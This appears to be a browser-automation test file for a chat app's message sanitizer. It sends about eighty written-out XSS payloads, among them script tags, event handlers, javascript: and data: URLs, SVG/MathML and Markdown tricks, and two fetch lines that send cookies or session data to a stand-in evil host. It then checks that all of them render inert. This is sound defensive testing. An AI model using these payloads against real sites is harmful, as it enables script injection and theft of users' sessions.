// Hostile message text: no script runs, no handler or non-https link survives, no request leaves the origin.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createRoom, joinRoom, log, openMember, say, seeMessage, startRelay, violations } from './harness.mjs';

const EVIL = 'https://evil.invalid';

/** At least fifty payloads: script tags, handlers, javascript: and data: URLs, SVG, MathML, CSS and broken markup. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>',
  '<script>fetch("https://evil.invalid/steal?"+sessionStorage.getItem("sanctum.resume"))</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.invalid/pixel.png">',
  '<img src=x onerror="fetch(\'https://evil.invalid/\'+document.cookie)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>',
  '<a href="http://evil.invalid/">plain http</a>',
  '<a href="//evil.invalid/">protocol relative</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="https://example.org/" onclick="alert(1)">https with handler</a>',
  '<a href="https://example.org/" style="position:fixed;inset:0">overlay</a>',
  '<b onmouseover=alert(1)>hover</b>',
  '<i style="background:url(https://evil.invalid/bg.png)">styled</i>',
  '<style>body{background:url(https://evil.invalid/css.png)}</style>',
  '<link rel=stylesheet href=https://evil.invalid/x.css>',
  '<iframe src="https://evil.invalid/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.invalid/x.swf">',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<form action="https://evil.invalid/"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/">',
  '<div style="width:expression(alert(1))">ie css</div>',
  '<marquee onstart=alert(1)>old</marquee>',
  '<table background="https://evil.invalid/t.png"><tr><td>t</td></tr></table>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<<script>alert(1);//<</script>',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><img src=x onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="https://example.org/"><img src=x onerror=alert(1)></a>',
  '<code onclick=alert(1)>code</code><pre onmouseover=alert(1)>pre</pre>',
  '<h1 id="composer">clobber</h1><form name="getElementById"></form>',
  '<blockquote cite="javascript:alert(1)">quote</blockquote>',
  '<ul><li onclick=alert(1)>item</li></ul>',
  '<x onclick=alert(1)>custom</x>',
  '<a href="https://example.org/" target="_self" rel="opener">opener</a>',
  '<img srcset="https://evil.invalid/a.png 1x">',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>',
  '<a href="https://example.org/\u0000javascript:alert(1)">nul</a>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<u oncopy=alert()> Copy me</u>',
  '<i onwheel=alert(1)> Scroll over me </i>',
  '<b/onmouseover=alert(1)>slash</b>',
  '<a onclick=alert(1) href=https://example.org/>handler first</a>',
  '<i style=color:red onclick=alert(1)>unquoted</i>',
  '<strong title="a>b" onfocus=alert(1)>quoted gt</strong>',
  '<em\tonclick=alert(1)>tab</em>',
  '<b onclick="alert(1)"',
  // Markdown: its links, images and code go through the same sanitizer as typed markup.
  '[click](javascript:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![pixel](https://evil.invalid/md.png)',
  '[![nested](https://evil.invalid/n.png)](https://example.org/)',
  '**<img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  '```\n<svg onload=alert(1)>\n```',
  '> <iframe src="https://evil.invalid/"></iframe>',
  '- <a href="https://example.org/" onclick="alert(1)">list link</a>',
  '[x](https://example.org/" onclick="alert(1))',
  '<https://evil.invalid/autolink> and https://example.org/bare',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |',
  '- [x] <b onclick=alert(1)>task</b>',
];

const ALLOWED_INSIDE = new Set(['P', 'B', 'I', 'U', 'S', 'EM', 'STRONG', 'CODE', 'PRE', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'BR', 'HR', 'A']);

let relay;
let alice;
let bob;

before(async () => {
  relay = await startRelay(['--frames-per-second', '200', '--frame-burst', '200']);
  [alice, bob] = await Promise.all([openMember(), openMember()]);
});

after(async () => {
  await Promise.all([alice, bob].map((member) => member?.close()));
  await relay?.stop();
});

test('a corpus of hostile payloads renders inert on both ends', async () => {
  assert.ok(PAYLOADS.length >= 50, `${PAYLOADS.length} payloads`);
  const dialogs = [];
  const foreign = [];
  const reports = [];
  for (const member of [alice, bob]) {
    // Chromium writes every CSP refusal to the console as well; any such line means hostile markup reached a document.
    member.page.on('console', (message) => {
      if (/Content Security Policy|Trusted Type/i.test(message.text())) reports.push(message.text());
    });
    member.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      dialog.dismiss().catch(() => {});
    });
    member.context.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(relay.origin) && !url.startsWith('blob:') && !url.startsWith('data:')) foreign.push(url);
    });
  }

  const link = await createRoom(alice.page, relay.origin, { alias: 'alice' });
  await joinRoom(bob.page, link, { alias: 'bob' });
  for (const payload of PAYLOADS) await say(alice.page, payload);
  await say(alice.page, 'END-OF-CORPUS');
  await seeMessage(bob.page, 'END-OF-CORPUS', 60_000);
  await alice.page.waitForTimeout(500);

  for (const member of [alice, bob]) {
    const page = member.page;
    assert.equal(await log(page).locator('.bubble').count(), PAYLOADS.length + 1);
    const report = await page.evaluate((allowed) => {
      const allowedTags = new Set(allowed);
      const problems = [];
      for (const bubble of document.querySelectorAll('#log .msg:not(:has(.attachment)) .bubble')) {
        for (const node of bubble.querySelectorAll('*')) {
          if (!allowedTags.has(node.tagName)) problems.push(`element ${node.tagName}`);
          for (const attribute of node.attributes) {
            const name = attribute.name.toLowerCase();
            if (name.startsWith('on')) problems.push(`handler ${name}`);
            if (!['href', 'rel', 'target'].includes(name)) problems.push(`attribute ${name}`);
          }
          if (node.tagName === 'A' && node.hasAttribute('href') && !/^https:\/\//i.test(node.getAttribute('href'))) {
            problems.push(`link ${node.getAttribute('href')}`);
          }
        }
      }
      return { problems, title: document.title, composer: Boolean(document.getElementById('message')) };
    }, [...ALLOWED_INSIDE]);
    assert.deepEqual(report.problems, []);
    assert.ok(report.composer, 'no clobbering of the app\'s elements');
    // No document of the page, not even the inert one DOMPurify parses in, ever holds a handler, a style or a <base>:
    // the CSP is never the line that holds, so it reports nothing at all.
    assert.deepEqual(await violations(page), []);
    assert.deepEqual(member.errors, []);
  }
  // Disallowed markup is shown as text, not dropped: a person sees what was sent.
  await log(bob.page).getByText('<script>alert(1)</script>', { exact: true }).first().waitFor();
  // Allowed formatting and https links still work.
  const safe = log(bob.page).locator('a[href="https://example.org/"]').first();
  assert.equal(await safe.getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.deepEqual(reports, [], 'Chromium reported a CSP violation');
  assert.deepEqual(dialogs, [], 'no script ran');
  assert.deepEqual(foreign, [], 'no request left for another origin');
  assert.ok(!foreign.some((url) => url.startsWith(EVIL)));
});
